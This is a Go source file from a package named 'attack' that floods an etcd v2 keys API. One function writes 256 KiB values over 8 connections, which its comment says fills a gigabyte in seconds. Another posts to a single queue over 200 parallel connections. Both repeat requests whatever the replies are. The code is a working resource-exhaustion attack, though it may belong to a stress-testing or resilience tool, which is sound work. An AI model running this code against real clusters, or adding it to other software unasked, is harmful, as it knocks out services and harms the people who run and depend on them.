package attack

import (
	"context"
	"fmt"
)

const (
	// fillConnections write values of fillSize to as many keys. That is a gigabyte in some seconds, if
	// nobody stops them.
	fillConnections = 8
	fillSize        = 256 << 10
)

// fill writes large values to a few keys, as fast as it can. The tree stays small, but etcd keeps all values
// for a while.
func fill(ctx context.Context, c *crew, ready func()) error {
	value := "value=" + long(fillSize)
	return c.write(ctx, fillConnections, func(i int) *request {
		return &request{method: "PUT", target: fmt.Sprintf("/v2/keys%s/fill%d", c.Folder, i), body: value, authorization: c.authorization()}
	}, ready)
}

// queueConnections write to one queue at the same time.
const queueConnections = 200

// queue adds to one queue, as fast as it can. Each write changes what all others rest on.
func queue(ctx context.Context, c *crew, ready func()) error {
	return c.write(ctx, queueConnections, func(int) *request {
		return &request{method: "POST", target: "/v2/keys" + c.Folder + "/queue", body: "value=x", authorization: c.authorization()}
	}, ready)
}

// write repeats one request on each of some connections, one after another, whatever the answers are.
func (c *crew) write(ctx context.Context, connections int, r func(i int) *request, ready func()) error {
	return together(ctx, connections, func(i int) {
		for ctx.Err() == nil {
			if k, err := c.dial(ctx, i, dialOptions{}); err == nil {
				stop := context.AfterFunc(ctx, func() { _ = k.raw.Close() })
				c.writeOn(k, r(i))
				k.leave(stop())
			}
			if !wait(ctx, beat) {
				return
			}
		}
	}, ready)
}

// writeOn repeats a request on a connection until that ends.
func (c *crew) writeOn(k *conn, r *request) {
	a, err := c.newAsker(k)
	for err == nil {
		_, err = a.ask(r)
	}
}
